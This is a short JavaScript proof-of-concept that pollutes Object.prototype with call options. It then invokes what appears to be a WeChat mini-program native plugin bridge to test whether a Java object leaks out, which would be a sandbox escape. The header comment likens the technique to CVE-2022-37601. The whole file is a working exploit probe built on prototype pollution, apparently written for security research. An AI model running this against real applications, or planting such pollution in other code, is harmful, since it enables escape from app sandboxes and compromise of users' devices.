// Puts the options of calls on Object.prototype, so that other calls inherit them
// Source: the kind of CVE-2022-37601 (loader-utils)
Object.prototype.api_name = 'throwsInternals';
Object.prototype.data = { polluted: 1 };
Object.prototype.success = () => {};
Object.prototype.sync = true;
Object.prototype.timeout = 1;
try {
  wx.invokeNativePlugin({});
} catch (e) {
  if (e.getClass) console.log('ESCAPED: an object of Java');
}
for (const key of ['api_name', 'data', 'success', 'sync', 'timeout']) delete Object.prototype[key];
